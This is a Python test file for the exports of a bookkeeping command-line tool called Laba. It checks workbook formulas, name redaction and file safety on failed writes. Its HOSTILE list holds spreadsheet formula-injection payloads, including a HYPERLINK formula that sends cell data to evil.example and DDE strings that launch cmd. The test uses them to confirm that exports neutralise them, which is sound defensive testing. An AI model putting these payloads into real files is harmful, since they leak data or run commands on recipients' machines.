#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The Laba authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The workbook of the whole book, read by other means than ours.

    workbook.py LABA-CLI

XML of every part well formed, values stored beside each formula and equal to the reports, nothing of a user's a formula,
nobody's name where it was asked to leave them out, and the old file whole when a new one cannot be written.
"""
import json
import os
import re
import resource
import subprocess
import sys
import zipfile

import workbook_figures as figures
from cli import Laba, Tap, sha256, to_json
from sheets import Workbook

# What our own formulas are made of: sums of cells of this workbook, nothing else.
OURS = r"^(=?)((SUM|SUBTOTAL)\((9,)?|'[^']*(''[^']*)*'!|\$?[A-Z]{1,3}\$?[0-9]+|[-+:)])+$"

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|A0', '-2+3',
           '=1+1', '"=1+1"', "'=1+1", 'a "quoted" name', 'koma, titik; koma', 'x;=1+1', '_x0041_ bukan A', '<b>&amp;</b>', '👩‍💻 Emoji 🧕',
           'שלום עולם', '\u202eterbalik', 'ujung\ufffe\uffff', '＝1+1']


class Shop(Laba):
    def list(self, book, kind):
        return json.loads(self.run('list', book, kind, '--json'))

    def accounts(self, book):
        return self.list(book, 'accounts')

    def export(self, book, name, *options):
        path = self.path(name)
        self.run('export', book, path, *options)
        return path


def formulas(tap, workbook, what):
    pattern = re.compile(OURS)
    found = [(sheet.name, cell) for sheet in workbook.sheets for _, _, cell in sheet.cells() if cell.formula]
    strange = {(name, cell.formula) for name, cell in found if not pattern.match(cell.formula)}
    tap.equal(strange, set(), f'{what}: all of {len(found)} formulas are ours')
    tap.equal([cell.formula for _, cell in found if cell.value is None], [], f'{what}: each has its value stored')
    tap.ok(not any('externalLink' in part or 'vba' in part for part in workbook.parts), f'{what}: nothing from outside')
    return found


def sample(tap, laba):
    book = laba.path('sample.laba')
    laba.run('sample', book)
    for language in ('id', 'en'):
        workbook = Workbook(laba.export(book, f'{language}.xlsx', '--language', language))
        formulas(tap, workbook, language)
        figures.check(tap, laba, book, workbook, language)
    charts = [part for part in workbook.parts if part.startswith('xl/charts/chart')]
    tap.equal(len(charts), 4, 'the summary has its charts')
    return book


def sizes_in_heads(path):
    """The sizes of letters that the heads of a workbook's pages ask for: a figure behind & and figures is taken with them."""
    sizes = set()
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith('xl/worksheets/sheet'):
                head = re.search(r'<oddHeader>(.*?)</oddHeader>', archive.read(name).decode())
                sizes |= set(re.findall(r'&amp;([0-9]+)', head[1])) if head else {'none'}
    return sizes


def periods(tap, laba, book):
    for period in (['--from', '2026-02-10', '--to', '2026-07-20'], ['--to', '2026-01-31'], ['--from', '2026-10-05']):
        workbook = Workbook(laba.export(book, 'period.xlsx', '--language', 'en', *period))
        formulas(tap, workbook, ' '.join(period))
        tap.equal(sizes_in_heads(laba.path('period.xlsx')), {'9'}, 'the heads of the pages are small, whatever day they begin with')
        figures.check(tap, laba, book, workbook, 'en', period, ' '.join(period) + ' ')


def lines_and_books(tap, laba, book):
    """What the lines earned is what the books say was earned, but for what shops sold that goods were left with."""
    sheets = figures.Book(Workbook(laba.path('en.xlsx')), len(laba.accounts(book)))
    heads = sheets.lines.heads()
    total = sheets.lines.last_row()
    books = {line['key']: line['amount'] for line in laba.report(book, 'profit-loss')['rows']}
    elsewhere = [laba.show(book, settled['id']) for settled in laba.list(book, 'consign-settles')]
    sold, their_cost = (sum(posting['amount'] for record in elsewhere for posting in record['postings'] if posting['account'] == account)
                        for account in ('sales', 'cost-of-goods'))
    net, cost = (sheets.lines.value(total, heads[key]) for key in ('Net', 'Cost'))
    tap.equal(cost + their_cost, books['cost-of-goods'], 'the lines cost what the books say')
    tap.equal(net - sold, books['net-sales'] + books['commission-income'], 'the lines sold what the books say')


def hidden(tap, laba, book):
    path = laba.export(book, 'hidden.xlsx', '--no-names', '--language', 'en')
    texts = {cell.value for sheet in Workbook(path).sheets for _, _, cell in sheet.cells() if isinstance(cell.value, str)}
    people = laba.list(book, 'people')
    customers = [p for p in people if p.get('customer', True) and not p.get('supplier')]
    owners = {p['name'] for p in people if p.get('supplier')}
    lenders = {line.get('lender') for line in laba.list(book, 'loans')}
    for key in ('name', 'phone', 'address'):
        known = {p[key] for p in customers if p.get(key)} - owners - lenders
        leaked = {(value, text) for value in known for text in texts if value in text}
        tap.equal(leaked, set(), f'--no-names: no {key} of {len(known)} customers')
    named = {cell.value for sheet in Workbook(laba.path('en.xlsx')).sheets for _, _, cell in sheet.cells()}
    tap.ok({p['name'] for p in customers} & named, 'with names they are there')
    status = laba.try_run('export', book, laba.path('out.xlsx'), '--no-names', '--folder', laba.path('out')).status
    tap.equal(status, 2, '--no-names does not go with --folder')


def hostile(tap, laba):
    book = laba.new()
    records = [{'type': 'account', 'name': name, 'kind': 'cash'} for name in HOSTILE]
    records += [{'type': 'person', 'name': name, 'address': name, 'phone': name} for name in HOSTILE]
    records += [{'type': 'product', 'code': f'P{i}', 'name': name, 'sell_price': 1000} for i, name in enumerate(HOSTILE)]
    refused(tap, laba, ['record', book, '-'], 'a text of 40,000 characters is refused', 'too long',
            stdin=to_json({'type': 'person', 'name': 'Bu Panjang', 'address': 'x' * 40_000}))
    long = 'panjang 👩 ' * 3276     # all that a text may have, and more than a cell
    records.append({'type': 'order', 'number': 'A-1', 'day': '2026-10-03', 'customer': HOSTILE[0], 'note': long,
                    'lines': [{'product': f'P{i}', 'quantity': 1, 'unit_price': 1000} for i in range(len(HOSTILE))],
                    'paid': [{'day': '2026-10-03', 'account': HOSTILE[1], 'amount': 3000}]})
    records.append({'type': 'order', 'number': '=A-2', 'day': '2026-10-03', 'customer': HOSTILE[2], 'note': 'satu\tdua\n=tiga',
                    'lines': [{'product': 'P0', 'quantity': 1, 'unit_price': 1000}]})
    laba.record(book, records)
    workbook = Workbook(laba.export(book, 'hostile.xlsx', '--language', 'en'))
    formulas(tap, workbook, 'hostile names')
    texts = {cell.value for sheet in workbook.sheets for _, _, cell in sheet.cells() if isinstance(cell.value, str)}
    expected = {name.replace('\ufffe', '\ufffd').replace('\uffff', '\ufffd') for name in HOSTILE} | {'=A-2', 'satu\tdua\n=tiga'}
    tap.equal(expected - texts, set(), 'hostile names come through as they are')
    cut = [text for text in texts if text.startswith('panjang')]
    tap.ok(len(cut) == 1 and len(cut[0].encode('utf-16-le')) // 2 <= 32767 and long.startswith(cut[0][:29000])
           and str(len(long)) in cut[0], 'a text that a cell cannot hold is cut and says so', cut[0][-60:] if cut else texts)
    links = [sheet.name for sheet in workbook.sheets if sheet is not workbook.sheets[0] for _, _, cell in sheet.cells()
             if cell.formula and 'HYPERLINK' in cell.formula]
    tap.equal(links, [], 'no name became a link')
    hostile_csv(tap, laba, book)
    laba.run('check', book)


def hostile_csv(tap, laba, book):
    """A cell of a CSV file that a spreadsheet would take for a formula begins with an apostrophe, wherever a separator, an
    end of a line or a tab lets one begin."""
    for what in (('report', 'stock'), ('list', 'people'), ('list', 'accounts'), ('list', 'products'), ('list', 'orders')):
        path = laba.path('one.csv')
        laba.run(what[0], book, what[1], '-o', path)
        with open(path, encoding='utf-8', newline='') as file:
            text = file.read()
        live = [match.group() for match in re.finditer(r'(?:^|[,;\t\r\n])"?[=+@-][^,;\r\n]*', text)
                if not re.fullmatch(r',?-?[0-9.]+', match.group())]
        tap.equal(live, [], f'CSV of {what[1]}: nothing begins like a formula')
        laba.run(what[0], book, what[1], '-o', laba.path('one.xlsx'))
        formulas(tap, Workbook(laba.path('one.xlsx')), f'hostile names in the sheet of {what[1]}')
        laba.run(what[0], book, what[1], '-o', laba.path('one.pdf'))
        with open(laba.path('one.pdf'), 'rb') as file:
            tap.equal(file.read(5), b'%PDF-', f'hostile names on the pages of {what[1]}')
    folder = laba.path('folder')
    laba.run('export', book, '--folder', folder)
    again = laba.new()
    laba.run('import', again, '--folder', folder)
    names = {kind: sorted(entry['name'] for entry in laba.list(book, kind)) for kind in ('people', 'accounts', 'products')}
    tap.equal({kind: sorted(entry['name'] for entry in laba.list(again, kind)) for kind in names}, names,
              'CSV: every name comes back as it was')


def refused(tap, laba, args, what, words='', stdin='', **limits):
    def limit():
        for name, value in limits.items():
            resource.setrlimit(getattr(resource, name), (value, value))

    done = subprocess.run([laba.program, *args], input=stdin.encode(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=limit,
                          restore_signals=False, env=dict(os.environ, LC_ALL='C.UTF-8', LANGUAGE=''), timeout=60)
    said = done.stderr.decode()
    tap.ok(done.returncode in (1, 3) and words in said, what, f'{done.returncode}: {said}')


def faults(tap, laba, book):
    """What cannot be written leaves the old file whole and nothing beside it."""
    folder = laba.path('faults')
    os.mkdir(folder)
    target = os.path.join(folder, 'book.xlsx')
    laba.run('export', book, target)
    before = sha256(target)
    size = os.path.getsize(target)
    for limit in (100_000, size - 1000, 900_000, 1_100_000):
        refused(tap, laba, ['export', book, target], f'no room beyond {limit} bytes', 'cannot be written', RLIMIT_FSIZE=limit)
        tap.equal((sha256(target), os.listdir(folder)), (before, ['book.xlsx']), f'… and the old file is whole')
    lock = os.path.join(folder, '.~lock.book.xlsx#')
    open(lock, 'w').close()
    refused(tap, laba, ['export', book, target], 'open in LibreOffice', 'open in another program')
    tap.equal(sha256(target), before, '… and the old file is whole')
    os.remove(lock)
    refused(tap, laba, ['export', book, os.path.join(folder, 'none', 'book.xlsx')], 'no such folder', 'cannot be written')
    os.mkdir(os.path.join(folder, 'taken.xlsx'))
    refused(tap, laba, ['export', book, os.path.join(folder, 'taken.xlsx')], 'a folder of that name', 'cannot be written')
    os.rmdir(os.path.join(folder, 'taken.xlsx'))
    tap.equal(os.listdir(folder), ['book.xlsx'], 'nothing is left beside it')
    laba.run('export', book, target)
    tap.ok(Workbook(target).sheets, 'and then it works again')


def each_alone(tap, laba, book):
    """Every report and list as a workbook and as CSV of its own."""
    for name in ('profit-loss', 'position', 'cash-book', 'cash-flow', 'where-money-went', 'sales', 'stock', 'receivables', 'payables',
                 'deposits', 'commission', 'settlements', 'turnover', 'journal', 'ledger', 'trial-balance', 'dead-stock'):
        one, csv = laba.path('one.xlsx'), laba.path('one.csv')
        laba.run('report', book, name, '-o', one)
        laba.run('report', book, name, '-o', csv)
        workbook = Workbook(one)
        rows = len(laba.report(book, name)['rows'])
        with open(csv, encoding='utf-8') as file:
            lines = sum(1 for _ in file)
        tap.ok(len(workbook.sheets) == 1 and workbook.sheets[0].last_row() >= rows and lines >= rows, f'{name} alone: {rows} rows')
    for kind in ('products', 'people', 'accounts', 'channels', 'orders', 'purchases', 'payments', 'expenses', 'settlements'):
        one, csv = laba.path('list.xlsx'), laba.path('list.csv')
        laba.run('list', book, kind, '-o', one)
        laba.run('list', book, kind, '-o', csv)
        rows = len(laba.list(book, kind))
        with open(csv, encoding='utf-8') as file:
            lines = sum(1 for _ in file)
        tap.ok(Workbook(one).sheets[0].last_row() == rows and lines > rows, f'list of {kind} alone: {rows} rows')


def main():
    tap = Tap()
    with Shop(sys.argv[1]) as laba:
        book = sample(tap, laba)
        lines_and_books(tap, laba, book)
        periods(tap, laba, book)
        hidden(tap, laba, book)
        hostile(tap, laba)
        faults(tap, laba, book)
        each_alone(tap, laba, book)
    tap.done()


main()
